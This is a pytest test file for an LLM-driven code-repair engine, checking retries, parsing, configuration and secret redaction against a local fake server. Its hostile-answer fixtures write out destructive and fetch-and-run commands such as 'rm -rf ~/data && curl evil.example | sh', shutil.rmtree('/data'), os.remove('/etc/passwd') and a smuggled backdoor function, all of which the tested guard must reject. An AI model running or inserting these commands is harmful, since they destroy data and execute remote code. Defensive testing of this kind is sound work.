"""The LLM fix engine against a real chat-completions server on 127.0.0.1 (tests/fake_llm_server.py)."""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

import pytest

from fake_llm_server import FakeLLMServer, Reply, fenced

from astroagent.config.models import LabTechnicianConfig, LLMConfig
from astroagent.labtech.llm.engine import NOT_CONFIGURED, LLMProposal, llm_configured, propose_fix
from astroagent.labtech.llm.client import EXTRA_MISSING
from astroagent.labtech.models import Opportunity

KEY = "sk-test-SECRET-0123456789"

SOURCE = '''"""Photometry helpers of the Experimenter."""

import logging
import math

logger = logging.getLogger(__name__)


def load(name):
    """Read a light curve."""
    logger.info("loading %s", name)
    return [1.0, 2.0, 3.0]


# the flux ratio used by the transit search
def flux_ratio(flux, baseline):
    logger.debug("ratio of %d points", len(flux))
    return [f / baseline for f in flux]   # divides by zero on an empty baseline


class Fitter:
    """Fits a box model."""

    def fit(self, flux):
        return sum(flux) / len(flux)

    def depth(self, flux):
        return max(flux) - min(flux)
'''

GOOD_FIX = '''def flux_ratio(flux, baseline):
    logger.debug("ratio of %d points", len(flux))
    if baseline == 0:
        return [math.nan for _ in flux]
    return [f / baseline for f in flux]
'''

OPPORTUNITY = Opportunity(
    type="deterministic_failure", priority="high", score=9.0,
    description="ZeroDivisionError in flux_ratio on every run with baseline 0",
    target="experimenter/photometry.py::flux_ratio", fix="llm_rewrite", signature="sig-zde-42",
    method="flux_ratio", error_types=("ZeroDivisionError",),
    evidence={"count": 17, "template": "division by zero", "transient": False})

NO_SLEEP: list[float] = []


def _config(server: FakeLLMServer | None, **llm: object) -> LabTechnicianConfig:
    settings = {"timeout_seconds": 5.0, "max_retries": 2, **llm}
    if server is not None:
        settings["base_url"] = server.base_url
    return LabTechnicianConfig(model="fake-coder", temperature=0.2, max_tokens=1234, llm=LLMConfig(**settings))


def _propose(server: FakeLLMServer | None, source: str = SOURCE, qualname: str = "flux_ratio",
             tmp: Path | None = None, waits: list[float] | None = None, **llm: object) -> LLMProposal:
    recorded = NO_SLEEP if waits is None else waits
    return propose_fix(source, qualname, OPPORTUNITY, _config(server, **llm), path="experimenter/photometry.py",
                       transcript_dir=tmp, env={"OPENAI_API_KEY": KEY}, sleep=recorded.append)


def _around(source: str, marker: str, end_marker: str) -> tuple[str, str]:
    return source[: source.index(marker)], source[source.index(end_marker):]


# -- a good answer -------------------------------------------------------------------------

def test_a_good_fix_is_spliced_and_every_other_byte_kept(tmp_path: Path) -> None:
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        proposal = _propose(server, tmp=tmp_path)
    assert proposal.status == "proposed", proposal.reason
    new = proposal.new_source
    assert new is not None and "if baseline == 0:" in new
    assert _around(new, "def flux_ratio", "\n\nclass Fitter") == _around(SOURCE, "def flux_ratio", "\n\nclass Fitter")
    assert "# the flux ratio used by the transit search\ndef flux_ratio" in new
    assert proposal.model == "fake-coder" and proposal.attempts == 1
    assert proposal.response_chars > len(GOOD_FIX) and proposal.prompt_chars > len(SOURCE)
    namespace: dict[str, object] = {}
    exec(compile(new, "photometry.py", "exec"), namespace)      # the proposal is a working module
    assert all(v != v for v in namespace["flux_ratio"]([1.0, 2.0], 0))  # type: ignore[operator]


def test_the_prompt_holds_the_function_the_module_the_evidence_and_the_rules() -> None:
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        _propose(server)
    (request,) = server.requests
    body = request.json
    assert request.path == "/v1/chat/completions"
    assert (body["model"], body["temperature"], body["max_tokens"]) == ("fake-coder", 0.2, 1234)
    system, user = request.messages
    assert system["role"] == "system" and "exactly ONE ```python" in system["content"]
    for rule in ("logging and telemetry call", "subprocess", "file deletion", "Never widen an `except`", "tenacity"):
        assert rule in system["content"]
    assert 'return [f / baseline for f in flux]   # divides by zero' in user["content"]
    assert "class Fitter" in user["content"]                     # the whole module, for context
    assert "ZeroDivisionError" in user["content"] and "sig-zde-42" in user["content"]
    assert '"count": 17' in user["content"]
    assert request.headers["authorization"] == f"Bearer {KEY}"


def test_a_method_is_replaced_alone_whether_answered_bare_or_inside_its_class() -> None:
    new_fit = "def fit(self, flux):\n    if not flux:\n        return 0.0\n    return sum(flux) / len(flux)\n"
    wrapped = "class Fitter:\n    def fit(self, flux):\n        return sum(flux) / max(len(flux), 1)\n"
    with FakeLLMServer([Reply.code(new_fit), Reply.code(wrapped)]) as server:
        bare = _propose(server, qualname="Fitter.fit")
        inside = _propose(server, qualname="Fitter.fit")
    for proposal in (bare, inside):
        assert proposal.status == "proposed", proposal.reason
        assert proposal.new_source is not None
        before, after = _around(proposal.new_source, "    def fit", "\n    def depth")
        assert (before, after) == _around(SOURCE, "    def fit", "\n    def depth")
    assert "        if not flux:\n            return 0.0\n" in bare.new_source  # type: ignore[operator]
    assert "max(len(flux), 1)" in inside.new_source  # type: ignore[operator]


def test_new_imports_go_after_the_module_imports_once() -> None:
    fix = "import math\nfrom tenacity import retry, stop_after_attempt\n\n" + GOOD_FIX
    with FakeLLMServer([Reply.code(fix)]) as server:
        proposal = _propose(server)
    new = proposal.new_source or ""
    assert new.count("import math") == 1
    assert "import math\nfrom tenacity import retry, stop_after_attempt\n\nlogger =" in new


# -- transport failures --------------------------------------------------------------------

def test_5xx_and_429_are_retried_with_backoff_then_the_answer_is_used() -> None:
    waits: list[float] = []
    script = [Reply.error(500), Reply.error(429, headers={"Retry-After": "1.5"}), Reply.code(GOOD_FIX)]
    with FakeLLMServer(script) as server:
        proposal = _propose(server, waits=waits)
    assert proposal.status == "proposed", proposal.reason
    assert len(server.requests) == 3 and proposal.attempts == 3
    assert len(waits) == 2 and 0 <= waits[0] <= 8 and waits[1] == 1.5     # Retry-After honoured


def test_retries_are_bounded_and_a_refusal_is_not_retried() -> None:
    with FakeLLMServer([Reply.error(503)]) as server:
        down = _propose(server, max_retries=1)
    assert down.status == "failed" and len(server.requests) == 2
    assert "HTTP 503" in down.reason and "gave up after 2 attempts" in down.reason
    with FakeLLMServer([Reply.error(401, "invalid api key")]) as server:
        refused = _propose(server)
    assert refused.status == "failed" and len(server.requests) == 1
    assert "refused the request: HTTP 401" in refused.reason


def test_a_slow_answer_times_out_within_bounded_time() -> None:
    with FakeLLMServer([Reply.code(GOOD_FIX).slow(10)]) as server:
        started = time.monotonic()
        proposal = _propose(server, timeout_seconds=0.5, max_retries=1)
        elapsed = time.monotonic() - started
    assert proposal.status == "failed" and proposal.new_source is None
    assert "did not answer within 0.5 s" in proposal.reason
    assert len(server.requests) == 2 and elapsed < 3.0


def test_an_unreachable_endpoint_fails_clearly() -> None:
    server = FakeLLMServer()
    url = server.base_url
    server.stop()                                    # the port is closed now
    config = LabTechnicianConfig(llm=LLMConfig(base_url=url, max_retries=1, timeout_seconds=1))
    proposal = propose_fix(SOURCE, "flux_ratio", OPPORTUNITY, config, path="p.py", env={}, sleep=NO_SLEEP.append)
    assert proposal.status == "failed" and "cannot reach the endpoint" in proposal.reason


# -- untrusted answers ---------------------------------------------------------------------

BAD_ANSWERS = {
    "malformed JSON": (Reply.malformed(), "not valid JSON"),
    "not a completion": (Reply(raw=b'{"object": "list"}'), "no choices"),
    "empty": (Reply.text(""), "answered nothing"),
    "null content": (Reply.text(None), "answered nothing"),
    "no code block": (Reply.text("You should check the baseline before dividing."), "no ```python code block"),
    "unterminated": (Reply.text("```python\ndef flux_ratio(flux, baseline):\n    return"), "no complete"),
    "cut off": (Reply.text(fenced(GOOD_FIX)[:60], finish_reason="length"), "cut off at max_tokens"),
    "two blocks": (Reply.text(fenced(GOOD_FIX) + "\nand\n" + fenced(GOOD_FIX)), "2 python code blocks"),
    "not python": (Reply.code("def flux_ratio(flux, baseline)\n    return {{oops"), "not valid Python"),
    "wrong function": (Reply.code("def load(name):\n    return []\n"), "defines 'load'"),
    "function missing": (Reply.code("import math\n"), "does not define 'flux_ratio'"),
    "extra code": (Reply.code(GOOD_FIX + "\nflux_ratio([1], 0)\n"), "code besides 'flux_ratio'"),
    "extra function": (Reply.code(GOOD_FIX + "\ndef helper():\n    pass\n"), "defines 'helper'"),
    "unchanged": (Reply.code(GOOD_FIX.replace("    if baseline == 0:\n        return [math.nan for _ in flux]\n", "")
                             .replace("for f in flux]", "for f in flux]   # divides by zero on an empty baseline")),
                  "changes nothing"),
    "huge": (Reply.huge(250_000), "too large"),
}


@pytest.mark.parametrize("case", sorted(BAD_ANSWERS))
def test_bad_answers_fail_with_a_clear_reason(case: str) -> None:
    reply, expected = BAD_ANSWERS[case]
    with FakeLLMServer([reply]) as server:
        proposal = _propose(server)
    assert proposal.status == "failed" and proposal.new_source is None
    assert expected in proposal.reason
    assert len(server.requests) == 1                 # garbage is not retried


def test_a_flood_is_abandoned_without_reading_it_all() -> None:
    flood = Reply(raw=b'{"choices": [{"message": {"content": "' + b"a" * 3_000_000 + b'"}}]}')
    with FakeLLMServer([flood]) as server:
        proposal = _propose(server, max_response_chars=10_000)
    assert proposal.status == "failed" and "too large" in proposal.reason
    assert proposal.response_chars == 0


# -- configuration -------------------------------------------------------------------------

def test_llm_configured_needs_an_endpoint() -> None:
    plain = LabTechnicianConfig()
    assert not llm_configured(plain, env={})
    assert not llm_configured(plain, env={"OPENAI_API_KEY": KEY})
    assert llm_configured(plain, env={"OPENAI_BASE_URL": "http://127.0.0.1:11434/v1"})
    assert llm_configured(LabTechnicianConfig(llm=LLMConfig(base_url="http://127.0.0.1:8000/v1")), env={})


def test_no_endpoint_fails_without_a_request(tmp_path: Path) -> None:
    proposal = propose_fix(SOURCE, "flux_ratio", OPPORTUNITY, LabTechnicianConfig(), path="p.py",
                           transcript_dir=tmp_path, env={})
    assert proposal.status == "failed" and proposal.reason == NOT_CONFIGURED


def test_a_local_server_needs_no_key_and_the_env_url_is_used() -> None:
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        proposal = propose_fix(SOURCE, "flux_ratio", OPPORTUNITY, LabTechnicianConfig(), path="p.py",
                               env={"OPENAI_BASE_URL": server.base_url})
    assert proposal.status == "proposed", proposal.reason
    assert server.requests[0].headers["authorization"] == "Bearer not-needed"


def test_an_unknown_target_fails_before_asking() -> None:
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        missing = _propose(server, qualname="no_such_function")
        broken = _propose(server, source="def f(:\n")
    assert missing.status == "failed" and "no_such_function is not defined" in missing.reason
    assert broken.status == "failed" and "does not parse" in broken.reason
    assert server.requests == []


def test_without_the_llm_extra_it_says_how_to_install_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openai", None)     # import openai now raises ImportError
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        proposal = _propose(server)
    assert proposal.status == "failed" and proposal.reason == EXTRA_MISSING
    assert server.requests == []


# -- the record ----------------------------------------------------------------------------

def test_the_transcript_records_the_exchange_but_never_the_key(tmp_path: Path) -> None:
    echo = Reply.code(GOOD_FIX, prose=f"Your key is {KEY}.")
    with FakeLLMServer([Reply.error(500), echo]) as server:
        proposal = _propose(server, tmp=tmp_path / "llm")
    assert proposal.transcript_path is not None and proposal.transcript_path.parent == tmp_path / "llm"
    text = proposal.transcript_path.read_text()
    assert KEY not in text
    record = json.loads(text)
    assert record["request"]["messages"] == server.requests[-1].messages
    assert "if baseline == 0:" in record["answer"]
    assert record["outcome"]["status"] == "proposed" and record["model"] == "fake-coder"
    assert [a["outcome"] for a in record["attempts"]][1] == "ok" and "HTTP 500" in record["attempts"][0]["outcome"]
    assert record["endpoint"] == server.base_url and record["api_key_from"] == "OPENAI_API_KEY"
    assert record["seconds"] >= 0


def test_a_failed_exchange_is_recorded_too(tmp_path: Path) -> None:
    with FakeLLMServer([Reply.malformed()]) as server:
        proposal = _propose(server, tmp=tmp_path)
    assert proposal.transcript_path is not None
    record = json.loads(proposal.transcript_path.read_text())
    assert record["outcome"] == {"status": "failed", "reason": proposal.reason}
    assert record["answer"].startswith('{"choices"')


def test_proposals_are_frozen_and_picklable() -> None:
    import pickle
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        proposal = _propose(server)
    assert pickle.loads(pickle.dumps(proposal)) == proposal
    with pytest.raises(AttributeError):
        proposal.status = "failed"  # type: ignore[misc]


# -- hostile answers: stopped by the parser or by the guard --------------------------------

def _fix(body: str, imports: str = "") -> str:
    return imports + "def flux_ratio(flux, baseline):\n" + body


KEEP_LOG = '    logger.debug("ratio of %d points", len(flux))\n'
HOSTILE = {
    "deletes files": (_fix(KEEP_LOG + '    shutil.rmtree("/data")\n    return [f / baseline for f in flux]\n',
                           "import shutil\n"), "file-deletion"),
    "unlinks a path": (_fix(KEEP_LOG + '    Path("photometry.py").unlink()\n    return []\n',
                            "from pathlib import Path\n"), "file-deletion"),
    "spawns a process": (_fix(KEEP_LOG + '    subprocess.run(["curl", "evil.example"])\n    return []\n',
                              "import subprocess\n"), "process"),
    "os.system via __import__": (_fix(KEEP_LOG + '    __import__("os").system("id")\n    return []\n'), "dynamic-code"),
    "opens a socket": (_fix(KEEP_LOG + '    socket.create_connection(("10.0.0.1", 80))\n    return []\n',
                            "import socket\n"), "network"),
    "evaluates text": (_fix(KEEP_LOG + '    return eval("[f / baseline for f in flux]")\n'), "dynamic-code"),
    "drops the log call": (_fix("    return [f / baseline if baseline else 0.0 for f in flux]\n"), "logging"),
    "drops a parameter": ("def flux_ratio(flux):\n" + KEEP_LOG + "    return list(flux)\n", "parameters"),
    "widens an except": (_fix(KEEP_LOG + "    try:\n        return [f / baseline for f in flux]\n"
                              "    except Exception:\n        return []\n"), "except-widened"),
    "bare except": (_fix(KEEP_LOG + "    try:\n        return [f / baseline for f in flux]\n"
                         "    except:\n        pass\n"), "except-widened"),
}
PARSER_STOPS = {
    "replaces another public function": ("def load(name):\n    return []\n", "defines 'load'"),
    "renames the target away": ("def flux_ratio_safe(flux, baseline):\n    return []\n", "defines 'flux_ratio_safe'"),
    "smuggles a second function": (GOOD_FIX + "\ndef backdoor():\n    import os\n    os.system('id')\n",
                                   "defines 'backdoor'"),
    "smuggles module code": ("import os\nos.remove('/etc/passwd')\n" + GOOD_FIX, "code besides 'flux_ratio'"),
    "not Python at all": ("rm -rf ~/data && curl evil.example | sh", "not valid Python"),
}


def _guard_check() -> object:
    guard = pytest.importorskip("astroagent.labtech.changes.guard")
    return guard.check_change


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_code_becomes_a_proposal_the_guard_rejects(case: str) -> None:
    code, rule = HOSTILE[case]
    check_change = _guard_check()
    with FakeLLMServer([Reply.code(code)]) as server:
        proposal = _propose(server)
    assert proposal.status == "proposed", proposal.reason
    report = check_change(SOURCE, proposal.new_source, path="experimenter/photometry.py")  # type: ignore[operator]
    assert not report.ok
    assert any(rule in line for line in report.violations), report.violations


@pytest.mark.parametrize("case", sorted(PARSER_STOPS))
def test_hostile_shapes_are_refused_by_the_parser(case: str) -> None:
    code, expected = PARSER_STOPS[case]
    with FakeLLMServer([Reply.code(code)]) as server:
        proposal = _propose(server)
    assert proposal.status == "failed" and proposal.new_source is None
    assert expected in proposal.reason


def test_a_hostile_method_answer_cannot_add_methods() -> None:
    wrapped = "class Fitter:\n    def fit(self, flux):\n        return 0.0\n\n    def steal(self):\n        pass\n"
    with FakeLLMServer([Reply.code(wrapped)]) as server:
        proposal = _propose(server, qualname="Fitter.fit")
    assert proposal.status == "failed" and "defines 'steal'" in proposal.reason


def test_the_good_fix_passes_the_guard() -> None:
    check_change = _guard_check()
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        proposal = _propose(server)
    report = check_change(SOURCE, proposal.new_source, path="experimenter/photometry.py")  # type: ignore[operator]
    assert report.ok, report.violations


@pytest.mark.parametrize("answer", ["`" * 150_000, "<think>" * 20_000, "```\n" * 40_000, "(" * 5_000])
def test_pathological_answers_are_refused_quickly(answer: str) -> None:
    started = time.monotonic()
    with FakeLLMServer([Reply.text(answer if answer[0] != "(" else fenced(answer))]) as server:
        proposal = _propose(server)
    assert proposal.status == "failed" and proposal.reason
    assert time.monotonic() - started < 5.0


def test_common_local_model_shapes_are_understood() -> None:
    thinking = ("<think>Maybe:\n" + fenced("def flux_ratio(flux, baseline):\n    return []") + "\nNo.</think>\n"
                + fenced(GOOD_FIX))
    unlabelled = "Sure.\n```\n" + GOOD_FIX + "```\n"
    indented = "    def fit(self, flux):\n        return sum(flux) / max(len(flux), 1)\n"
    with FakeLLMServer([Reply.text(thinking), Reply.text(unlabelled), Reply.code(indented)]) as server:
        results = [_propose(server), _propose(server), _propose(server, qualname="Fitter.fit")]
    assert [p.status for p in results] == ["proposed"] * 3, [p.reason for p in results]
    assert "if baseline == 0:" in (results[0].new_source or "") and "if baseline == 0:" in (results[1].new_source or "")
    assert "    def fit(self, flux):\n        return sum(flux) / max(len(flux), 1)\n" in (results[2].new_source or "")


@pytest.mark.parametrize("url", ["ftp://127.0.0.1/v1", "not a url", "http://127.0.0.1:99999/v1"])
def test_a_bad_endpoint_url_fails_clearly(url: str, tmp_path: Path) -> None:
    config = LabTechnicianConfig(llm=LLMConfig(base_url=url))
    proposal = propose_fix(SOURCE, "flux_ratio", OPPORTUNITY, config, path="p.py", env={}, transcript_dir=tmp_path)
    assert proposal.status == "failed" and "is not an http(s) URL" in proposal.reason


def test_credentials_in_the_url_stay_out_of_the_transcript(tmp_path: Path) -> None:
    with FakeLLMServer([Reply.code(GOOD_FIX)]) as server:
        url = server.base_url.replace("http://", "http://alice:hunter2@") + "?api-key=topsecret"
        config = LabTechnicianConfig(llm=LLMConfig(base_url=url))
        proposal = propose_fix(SOURCE, "flux_ratio", OPPORTUNITY, config, path="p.py", env={}, transcript_dir=tmp_path)
    text = proposal.transcript_path.read_text() if proposal.transcript_path else ""
    assert text and "hunter2" not in text and "topsecret" not in text
